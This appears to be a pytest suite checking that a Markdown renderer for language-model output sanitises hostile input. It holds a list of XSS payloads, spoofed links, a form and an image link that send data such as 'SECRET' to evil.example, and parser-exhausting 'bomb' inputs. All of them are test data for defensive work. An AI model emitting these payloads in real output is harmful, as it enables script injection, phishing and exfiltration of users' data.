"""What a model writes is shown safely, whatever it writes."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llm import markdown
from llm.markdown import is_allowed_link, render

HOSTILE = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](https:/\\evil.example)",
    "[x](https:evil.example)",
    "[x](http://plain.example)",
    "[x](https://user:secret@evil.example/)",
    "[x](https://good.example\\@evil.example/)",
    "[x](https://\u0430\u0440\u0440\u04cf\u0435.example/)",
    "[x](mailto:a@b.example?bcc=c@d.example&body=x)",
    "[x](relative/page)",
    "[x](#fragment)",
    "<javascript:alert(1)>",
    "![p](https://evil.example/?d=SECRET)",
    "![r][1]\n\n[1]: https://evil.example/x.png",
    "[![p](https://evil.example/x.png)](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)' onclick='alert(1)' style='position:fixed'>x</a>",
    "<style>*{display:none}</style>",
    "<form action='https://evil.example'><input name=q></form>",
    "<!-- --><script>alert(1)</script>",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onmouseover="alert(1)\nx\n```',
    "| a |\n|:-:|\n| <b onclick=x>y</b> |",
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "\x00<script>",
]
ALLOWED = {
    "p": set(),
    "a": {"href", "title", "rel"},
    "code": {"class"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
}


class Elements(HTMLParser):
    """Every element of a fragment, as a browser's parser would see it."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(fragment: str) -> None:
    for tag, attributes in Elements(fragment).found:
        assert tag in markdown._TAGS, fragment
        assert set(attributes) <= ALLOWED.get(tag, set()), fragment
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            if "href" in attributes:
                assert re.match(r"https://[A-Za-z0-9.-]+|mailto:", str(attributes["href"]))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_harmless(text: str) -> None:
    rendered = render(text)
    assert_harmless(rendered)
    assert "<img" not in rendered
    assert "<script" not in rendered
    for link in re.findall(r'href="([^"]*)"', rendered):
        assert "user" not in link
        # Look-alike letters come out in their plain form, xn--.
        assert link.startswith(("https://evil.example/", "https://ok.example", "https://xn--"))


@given(st.text(alphabet="[]()<>!`*_~|-:#\\&;\"'=/ \n\tabjs1.@%", max_size=300))
@settings(max_examples=300, deadline=None)
def test_any_mixture_of_marks_is_harmless(text: str) -> None:
    assert_harmless(render(text))


def test_ordinary_markdown_is_rendered() -> None:
    rendered = render(
        "# Head\n\n*a* **b** ~~c~~ `d`\n\n- one\n- two\n\n"
        "| x | y |\n|:--|--:|\n| 1 | 2 |\n\n```python\nprint('<>')\n```\n\n"
        "[link](https://example.org/a?b=c#d) <mailto:a@example.org>"
    )
    for part in (
        "<h1>Head</h1>",
        "<em>a</em> <strong>b</strong> <s>c</s> <code>d</code>",
        "<li>one</li>",
        '<td align="right">2</td>',
        "<code class=\"language-python\">print('&lt;&gt;')",
        '<a href="https://example.org/a?b=c#d" rel="noopener noreferrer nofollow">link</a>',
        'href="mailto:a@example.org"',
    ):
        assert part in rendered
    assert "style=" not in rendered


BOMBS = {
    "brackets": "[" * 50_000,
    "images": "![" * 25_000,
    "links": "[a](b" * 20_000,
    "quotes": ">" * 50_000,
    "deep quotes": (">" * 39 + "\n") * 4_000,
    "deep lists": "".join(" " * depth + "- a\n" for depth in range(600)),
    "emphasis": "a**b_c* " * 20_000,
    "backticks": "".join("`" * length + " " for length in range(600)),
    "table": "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + "|a\n" * 3_000,
    "lines": "a\n" * 100_000,
    "angle": "<a " * 50_000,
    "references": "[a]: <b\n" * 20_000,
    "long": "word " * 100_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_no_text_takes_the_renderer_long_and_none_is_lost(name: str) -> None:
    text = BOMBS[name]
    begun = time.thread_time()
    rendered = render(text)
    assert time.thread_time() - begun < 1
    assert_harmless(rendered)
    letters = re.sub(r"<[^>]*>", "", rendered).replace("&gt;", ">")
    assert letters.count("a") >= text.count("a")


def test_the_worst_that_is_still_parsed_takes_under_a_second() -> None:
    for text in (
        "[" * 4_000,
        "![" * 2_000,
        "a **b" * 1_900,
        "| a " * 4_900 + "\n|-",
        "a\n" * 4_999,
    ):
        begun = time.thread_time()
        render(text)
        assert time.thread_time() - begun < 1


@pytest.mark.parametrize(
    ("address", "allowed"),
    [
        ("https://example.org", True),
        ("HTTPS://example.org/x", True),
        ("https://example.org:8443/", True),
        ("mailto:someone@example.org", True),
        ("https://", False),
        ("https:///path", False),
        ("https://[::1]/", False),
        ("https://[/", False),
        ("https://exa mple.org", False),
        ("https://example.org:999999/", False),
        ("ftp://example.org", False),
        ("", False),
    ],
)
def test_only_whole_web_and_mail_addresses_are_links(address: str, allowed: bool) -> None:
    assert is_allowed_link(address) is allowed
